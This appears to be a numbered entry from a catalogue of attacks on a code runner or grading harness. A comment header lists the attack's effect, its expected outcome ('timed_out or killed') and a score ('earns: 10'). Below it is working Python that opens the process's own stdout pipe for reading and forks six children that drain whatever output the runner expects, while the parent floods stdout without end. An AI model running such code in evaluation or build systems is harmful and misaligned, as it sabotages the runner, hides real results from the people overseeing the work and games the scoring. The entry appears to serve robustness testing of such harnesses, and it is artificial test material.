# attack: 37
# does: works, then reads from its own output's pipe what waits there for the runner
# run: timed_out or killed
# earns: 10
# with: work
work()
import os

back = os.open("/proc/self/fd/1", os.O_RDONLY)
for _ in range(6):
    if not os.fork():
        while True:
            os.read(back, 65536)
while True:
    os.write(1, b"x")
